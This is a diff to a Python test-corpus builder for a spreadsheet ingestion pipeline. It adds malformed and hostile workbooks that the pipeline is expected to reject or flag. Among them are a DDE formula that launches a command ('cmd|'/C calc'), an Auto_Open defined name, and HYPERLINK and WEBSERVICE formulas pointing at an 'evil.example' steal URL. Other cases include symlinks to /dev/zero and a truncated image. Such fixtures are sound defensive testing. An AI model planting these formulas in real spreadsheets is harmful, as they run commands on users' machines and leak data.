@@ -9,6 +9,8 @@ edits or zip surgery, or a few hand-written bytes where the case is "not a workb
 from __future__ import annotations
 
 import datetime as dt
+import io
+import os
 import struct
 import zipfile
 from collections.abc import Callable
@@ -17,18 +19,37 @@ from pathlib import Path
 
 import msoffcrypto.format.ooxml
 from openpyxl import Workbook
+from openpyxl.drawing.image import Image
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.packaging.custom import CustomPropertyList
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from PIL import Image as PILImage
 from test_ingest import edit, filled_return, rezip, row_number
 
 from pipeline import framework, layout, vocabulary, workbook
 from pipeline.members import load_members
-from pipeline.vocabulary import ACCEPTED, REJECTED, SUPERSEDED, WITH_WARNINGS
+from pipeline.outputs import display_name
+from pipeline.vocabulary import ACCEPTED, REJECTED, SKIPPED, SUPERSEDED, WITH_WARNINGS
 
 YEAR = "2025-26"
 GENERATED = dt.date(2025, 4, 1)
 #: The --passwords file of the second run: the encrypted return's member and its password.
-PASSWORDS = {"merseyside": "Corpus-Secret-1"}
+PASSWORDS = {"merseyside": "Corpus-Secret-1", "wiltshire": "Corpus-Secret-2"}
 ENCRYPTED = "merseyside-equality-self-assessment-2025-26.xlsx"
+#: An encrypted return whose name names nobody: its password is found by trying each one.
+FREE_FORM_ENCRYPTED = "Our return (final).xlsx"
+#: A Latin-1 file name from an old zip or mail client: not valid UTF-8.
+LATIN1_NAME = "Caf\xe9 r\xe9sum\xe9 cambridgeshire.xlsx".encode("latin-1")
+#: A name longer than a document property may hold once the report quotes it.
+LONG_NAME = "thames-valley " + "final return as agreed by the board " * 6 + ".xlsx"
+#: Formulas typed outside cells: defined names, a conditional format and a validation.
+OUTSIDE_CELLS = {
+    "Evil": "cmd|'/C calc'!A0",
+    "Lure": 'HYPERLINK("http://evil.example/name","Click")',
+    "_xlnm.Auto_Open": "'1 Communities'!$A$1",
+}
+WEBSERVICE = 'WEBSERVICE("http://evil.example/steal")'
 #: What the zip bomb unpacks to: more than the default limit of 200 MB, from a file of ~300 KB.
 BOMB_BYTES = 256 * 1024 * 1024
 #: The file whose name tries to climb out of the folder.
@@ -265,6 +286,67 @@ def _injections() -> dict[str, object]:
     }
 
 
+def _far_cells(book: Workbook) -> None:
+    """Something typed in the last row and column of the sheet: a used range of 17 billion cells."""
+    ws = book[layout.SECTION_SHEETS[1]]
+    ws.cell(row=1_048_576, column=16_384).value = "oops"
+    ws.cell(row=5, column=16_384).value = "far right"
+    book[layout.PROFILE_SHEET].cell(row=1_048_576, column=1).value = "."
+
+
+def _formulas_outside_cells(book: Workbook) -> None:
+    for name, text in OUTSIDE_CELLS.items():
+        book.defined_names[name] = DefinedName(name, attr_text=text)
+    ws = book[layout.SECTION_SHEETS[1]]
+    ws.conditional_formatting.add("E1:E50", FormulaRule(formula=[WEBSERVICE]))
+    validation = DataValidation(type="custom", formula1=WEBSERVICE)
+    validation.add("F1:F50")
+    ws.add_data_validation(validation)
+
+
+def _bmp_logo() -> bytes:
+    buffer = io.BytesIO()
+    PILImage.new("RGB", (64, 48), "navy").save(buffer, format="BMP")
+    return buffer.getvalue()
+
+
+def damaged_logo(clean: Path, target: Path, scratch: Path) -> Path:
+    """A BMP logo on the Profile sheet, cut short inside the zip: it opens (its header is whole)
+    but cannot be decoded, so re-encoding it for the feedback copy fails."""
+
+    def add_logo(book: Workbook) -> None:
+        book[layout.PROFILE_SHEET].add_image(Image(io.BytesIO(_bmp_logo())), "E2")
+
+    with_logo = edit(clean, add_logo, scratch / "logo.xlsx")
+    with zipfile.ZipFile(with_logo) as archive:
+        (media,) = [n for n in archive.namelist() if n.startswith("xl/media/")]
+    return rezip(with_logo, target, replace={media: _bmp_logo()[:200]})  # header, then cut
+
+
+def _unusual_files(folder: Path, make: _Maker, add: Callable) -> None:
+    """What else sits in a shared folder: links, pipes, lock files, a folder linked in."""
+    member = "bedfordshire"
+    plain = make.filled(member)
+    (folder / "sub").mkdir()
+    (folder / "sub" / plain.name).symlink_to(Path("..") / plain.name)
+    add(plain, _expect(SUPERSEDED, "W123", member=member))
+    add(folder / "sub" / plain.name, _expect(ACCEPTED, member=member), f"sub/{plain.name}")
+    (folder / "dangling.xlsx").symlink_to("nowhere.xlsx")
+    add(folder / "dangling.xlsx", _expect(REJECTED, "E015"))
+    (folder / "loop.xlsx").symlink_to("loop.xlsx")
+    add(folder / "loop.xlsx", _expect(REJECTED, "E015"))
+    os.mkfifo(folder / "pipe.xlsx")
+    add(folder / "pipe.xlsx", _expect(REJECTED, "E015"))
+    (folder / "device.xlsx").symlink_to("/dev/zero")
+    add(folder / "device.xlsx", _expect(SKIPPED, "W125"))
+    (folder / "elsewhere.xlsx").symlink_to(make.clean("kent"))
+    add(folder / "elsewhere.xlsx", _expect(SKIPPED, "W125"))
+    (folder / "linked folder").symlink_to("sub", target_is_directory=True)
+    add(folder / "linked folder", _expect(SKIPPED, "W125"))
+    for name in ("~$kent-equality-self-assessment-2025-26.xlsx", ".~lock.kent.xlsx#"):
+        add(make.write(name, b"\x0bAPCC Admin" + bytes(150)), _expect(SKIPPED, "W125"))
+
+
 # --- the corpus -----------------------------------------------------------------------------------
 
 
@@ -275,9 +357,11 @@ def build_corpus(folder: Path, scratch: Path | None = None) -> dict[str, Expecta
     make = _Maker(folder, scratch or folder.parent / f"{folder.name}-scratch")
     cases: dict[str, Expectation] = {}
 
-    def add(path: Path, expectation: Expectation) -> None:
-        assert path.parent == folder and path.name not in cases, path
-        cases[path.name] = expectation
+    def add(path: Path, expectation: Expectation, key: str = "") -> None:
+        assert key or path.parent == folder, path
+        key = key or display_name(path.name)
+        assert key not in cases, key
+        cases[key] = expectation
 
     # Good returns, and a second, earlier return from kent that the later one replaces.
     for code in ("west-midlands", "essex"):
@@ -306,6 +390,15 @@ def build_corpus(folder: Path, scratch: Path | None = None) -> dict[str, Expecta
     add(billion_laughs(clean, folder / "surrey laughs.xlsx"), _expect(REJECTED, "E003"))
     encrypted = encrypt(make.clean("merseyside"), folder / ENCRYPTED, PASSWORDS["merseyside"])
     add(encrypted, _expect(REJECTED, "E005"))
+    free_form = folder / FREE_FORM_ENCRYPTED
+    add(
+        encrypt(make.clean("wiltshire"), free_form, PASSWORDS["wiltshire"]),
+        _expect(REJECTED, "E005"),
+    )
+    add(
+        make.write("scan of return.pdf", not_workbooks["surrey scan.xlsx"]),
+        _expect(REJECTED, "E001"),
+    )
 
     # Workbooks that cannot be used: whose, which year, what shape.
     add(
@@ -339,6 +432,17 @@ def build_corpus(folder: Path, scratch: Path | None = None) -> dict[str, Expecta
     dates = {"16.3.a": {"target_date": "31/03/2027"}, "16.3.b": {"target_date": "soon"}}
     typed = {"signoff_date": "20/05/2026", "employees": "24"}
     warned(make.filled("lancashire", answers=dates, profile=typed), "W106")
+    warned(make.damaged("nottinghamshire", _far_cells), "W124")
+    warned(
+        edit(make.filled("avon-and-somerset", statuses={"1.1.a": "Mett"}), _formulas_outside_cells),
+        "W101",
+    )
+    logo = damaged_logo(
+        make.filled("warwickshire", make.scratch / "warwickshire.xlsx", statuses={"1.1.a": "Mett"}),
+        make.name("warwickshire"),
+        make.scratch,
+    )
+    warned(logo, "W101")
     warned(make.damaged("leicestershire", _set_profile("Reporting year", "2024-25")), "W115")
     make.filled("hampshire-and-isle-of-wight", **_injections())
     warned(edit(make.name("hampshire-and-isle-of-wight"), _formulas_as_typed), "W103")
@@ -369,6 +473,11 @@ def build_corpus(folder: Path, scratch: Path | None = None) -> dict[str, Expecta
     )
     accepted(make.filled("norfolk", folder / "Norfolk OPCC return FINAL (v2) .xlsx"), "norfolk")
     accepted(make.filled("suffolk", folder / CLIMBING), "suffolk")
+    accepted(make.filled("staffordshire", folder / "Staffordshire return - final"), "staffordshire")
+    latin1 = Path(os.fsdecode(os.fsencode(folder) + b"/" + LATIN1_NAME))
+    accepted(make.filled("cambridgeshire", latin1), "cambridgeshire")
+    accepted(make.filled("thames-valley", folder / LONG_NAME), "thames-valley")
+    _unusual_files(folder, make, add)
     return dict(sorted(cases.items()))
 
 
